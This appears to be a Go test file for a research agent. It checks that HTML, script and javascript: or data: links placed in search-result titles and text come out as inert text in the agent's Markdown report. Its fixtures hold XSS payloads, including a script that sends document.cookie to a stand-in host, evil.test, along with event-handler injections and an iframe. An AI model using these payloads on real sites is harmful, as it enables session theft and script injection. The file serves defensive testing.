package agent_test

import (
	"bytes"
	"context"
	"fmt"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/renderer/html"

	"github.com/assaylabs/assay/agent"
	"github.com/assaylabs/assay/web"
)

// renderUnsafe turns Markdown into HTML as a viewer that allows raw HTML
// would, so that whatever the tool let through shows in the output.
func renderUnsafe(t *testing.T, md string) string {
	t.Helper()
	var out bytes.Buffer
	gm := goldmark.New(goldmark.WithExtensions(extension.GFM), goldmark.WithRendererOptions(html.WithUnsafe()))
	require.NoError(t, gm.Convert([]byte(md), &out))
	return out.String()
}

// assertInert checks that rendered HTML runs and links nothing hostile.
func assertInert(t *testing.T, rendered string) {
	t.Helper()
	for _, bad := range []string{"<script", "<img", "<iframe", "<svg", "<b onclick", `href="javascript:`, `href="data:`, `src="data:`, "<h1>Buy"} {
		assert.NotContains(t, rendered, bad)
	}
}

// TestHostileSourcesStayText runs the offline workflow on sources whose
// text and titles carry HTML, script and javascript: or data: links: the
// report quotes them as text, and its figures are those of clean sources.
func TestHostileSourcesStayText(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ inject, title string }{
		"script element":      {inject: `<script>document.location="https://evil.test/?c="+document.cookie</script>`, title: "Tidal power <script>steal()</script> notes"},
		"event handler":       {inject: `<img src=x onerror=steal()>`, title: `Tidal power <img src=x onerror=steal()>`},
		"javascript link":     {inject: `[read more](javascript:steal())`, title: "Tidal power [x](javascript:steal())"},
		"data image":          {inject: `![chart](data:text/html;base64,PHNjcmlwdD4=)`, title: "Tidal power ![i](data:image/png;base64,AA==)"},
		"escaped bracket":     {inject: `\[read more\](javascript:steal()) \<b onclick=steal()>`, title: `Tidal power \<svg onload=steal()>`},
		"backslash and quote": {inject: `the operator said \" <iframe src=https://evil.test></iframe>`, title: "Tidal power\n# Buy now"},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			var rs []web.Result
			for i := range 5 {
				rs = append(rs, web.Result{
					URL: fmt.Sprintf("https://tide%d.gov/report", i), Title: fmt.Sprintf("%s %d", tc.title, i),
					Text: fmt.Sprintf("Tidal power plants in estuaries produced %d gigawatt hours %s of tidal power last year. "+
						"Tidal power output follows the lunar cycle of tides in estuaries with %d turbines.", 400+i, tc.inject, 20+i),
					References: 3, Author: "R. Lune", AuthorKnown: true,
				})
			}
			res, err := offlineResearch(t, memSearch{rs}).Run(context.Background(), "How much tidal power do estuaries produce?")
			require.NoError(t, err)
			assertInert(t, renderUnsafe(t, res.Report))
			card := res.Iterations[len(res.Iterations)-1].Card
			grounding, ok := card.Get("grounding")
			require.True(t, ok)
			assert.Equal(t, 5.0, grounding.Points, "every sentence is still cited with a quote its source holds: %s", grounding.Reason)
		})
	}
}

// TestHostileDroppedSourcesStayText checks the insufficient-data note,
// which lists every source with why it was dropped.
func TestHostileDroppedSourcesStayText(t *testing.T) {
	t.Parallel()
	rs := []web.Result{
		{URL: "https://crafts.example.com/a", Title: `Knitting <script>steal()</script>`, Text: "Knitting needles come in many sizes and materials for every yarn."},
		{URL: "https://crafts.example.com/b", Title: "Quilting [tips](javascript:steal())", Text: "Quilting uses cotton batting between two layers of fabric."},
		{URL: "https://crafts.example.com/c", Title: "Sewing\n<img src=x onerror=steal()>", Text: "Sewing machines stitch fabric with a needle and bobbin thread."},
	}
	res, err := offlineResearch(t, memSearch{rs}).Run(context.Background(), "How much tidal power do estuaries produce?")
	require.NoError(t, err)
	require.Equal(t, agent.StatusInsufficient, res.Status)
	assert.Contains(t, res.Report, "Knitting")
	assertInert(t, renderUnsafe(t, res.Report))
}
